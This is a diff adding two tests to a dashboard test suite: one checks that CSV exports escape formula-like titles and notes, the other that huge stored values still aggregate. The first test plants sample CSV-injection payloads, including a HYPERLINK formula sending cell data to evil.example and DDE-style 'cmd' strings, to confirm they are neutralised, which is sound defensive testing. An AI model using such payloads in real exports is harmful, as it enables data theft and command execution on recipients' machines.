@@ -1,3 +1,4 @@
+import { sql } from 'kysely'
 import { describe, expect, it } from 'vitest'
 import { createPlan } from '#db/factories/index.ts'
 import * as MeasurementRepository from '#db/repositories/measurements.ts'
@@ -110,5 +111,52 @@ describe('the cross-country dashboard', () => {
     expect(table.data).not.toContain('Port')
     const measurements = await call(() => measurementsCsv(args(makeRequest('/dashboard/measurements.csv', { cookie: reviewer }))))
     expect(measurements.data.split('\r\n')[1]).toContain('2026-Q2')
+  })
+
+  it('exports titles and notes that look like formulas as inert text', async () => {
+    const { palm, reviewer } = await world()
+    const lead = (await db.selectFrom('plan_members').select('user_id').where('plan_id', '=', palm.id).executeTakeFirstOrThrow()).user_id
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+    await db.updateTable('plans').set({ title: evil }).where('id', '=', palm.id).execute()
+    const k = await ItemRepository.insert(db, { planId: palm.id, kind: 'indicator', refPrefix: 'K', data: { name: '+SUM(A1)', indicatorType: 'output', unit: 'other' }, actorId: lead })
+    const notes = ['@SUM(1+1)*cmd|x', '+1+cmd', '-2+3']
+    await MeasurementRepository.insertMany(db, { planId: palm.id, actorId: lead, rows: notes.map((note, n) => ({ indicatorId: k.id, period: `${2026 + n}`, periodEnd: `${2026 + n}-12-31`, value: -3, note, evidenceSource: '\t=1' })) })
+    const table = (await call(() => plansCsv(args(makeRequest('/dashboard/plans.csv?country=ID', { cookie: reviewer }))))).data as string
+    expect(table).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"`)
+    expect(table).not.toMatch(/(^|,)"?=HYPERLINK/m)
+    const lines = ((await call(() => measurementsCsv(args(makeRequest('/dashboard/measurements.csv', { cookie: reviewer }))))).data as string).split('\r\n')
+    const mine = lines.filter((l) => l.includes('+SUM(A1)'))
+    expect(mine).toHaveLength(3)
+    for (const [n, line] of mine.entries()) {
+      expect(line).toContain(`,'+SUM(A1),other,${2026 + n},${2026 + n}-12-31,-3,`)
+      expect(line).toContain(`,'${notes[n]},'\t=1`)
+      expect(line.startsWith(`${palm.id},"'=HYPERLINK`)).toBe(true)
+    }
+  })
+
+  it('still answers when measurements recorded before the range check hold the largest doubles', async () => {
+    const { palm, port, reviewer } = await world()
+    const lead = (await db.selectFrom('plan_members').select('user_id').where('plan_id', '=', palm.id).executeTakeFirstOrThrow()).user_id
+    const workers = { name: 'Workers', indicatorType: 'output', unit: 'count', baselineValue: 0, targetValue: 8000, countsWorkersReached: true }
+    const huge = 1.7976931348623157e308
+    const rows: { plan_id: string; indicator_id: string; period: string; period_end: string; value: number }[] = []
+    for (const plan of [palm, port]) {
+      const k = await ItemRepository.insert(db, { planId: plan.id, kind: 'indicator', refPrefix: 'K', data: workers, actorId: lead })
+      rows.push({ plan_id: plan.id, indicator_id: k.id, period: '2026', period_end: '2026-12-31', value: huge })
+    }
+    // The database refuses such a value now; rows from before the check are kept as they were.
+    await expect(db.insertInto('measurements').values(rows[0]!).execute()).rejects.toThrow(/measurements_value_range/)
+    await db.transaction().execute(async (trx) => {
+      await sql`ALTER TABLE measurements DROP CONSTRAINT measurements_value_range`.execute(trx)
+      await trx.insertInto('measurements').values(rows).execute()
+      await sql`ALTER TABLE measurements ADD CONSTRAINT measurements_value_range CHECK (value BETWEEN -1e12 AND 1e12) NOT VALID`.execute(trx)
+    })
+    const res = await open(reviewer)
+    expect(res.status).toBe(200)
+    // Summed exactly, the figures lie beyond what a double holds, so the page shows them as ∞.
+    expect(res.data.aggregates.workersReached).toBe(Infinity)
+    for (const group of res.data.aggregates.byCountry) expect(group.workersReached).toBeGreaterThanOrEqual(huge)
+    const csv = await call(() => plansCsv(args(makeRequest('/dashboard/plans.csv', { cookie: reviewer }))))
+    expect(csv.status).toBe(200)
   })
 })
